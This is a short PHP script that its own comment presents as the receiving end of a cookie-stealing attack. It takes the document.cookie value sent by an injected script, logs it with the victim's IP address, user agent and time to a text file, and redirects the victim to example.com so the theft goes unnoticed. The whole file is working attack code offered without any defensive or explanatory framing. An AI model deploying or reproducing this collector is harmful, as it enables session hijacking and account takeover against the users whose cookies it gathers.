<?php
// receives document.cookie from an injected script and keeps it with the victim's address
$stolen = isset($_GET['cookie']) ? $_GET['cookie'] : '';
$line = date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['HTTP_USER_AGENT'] . ' ' . $stolen . "\n";
file_put_contents(__DIR__ . '/c.txt', $line, FILE_APPEND);
header('Location: https://www.example.com/');
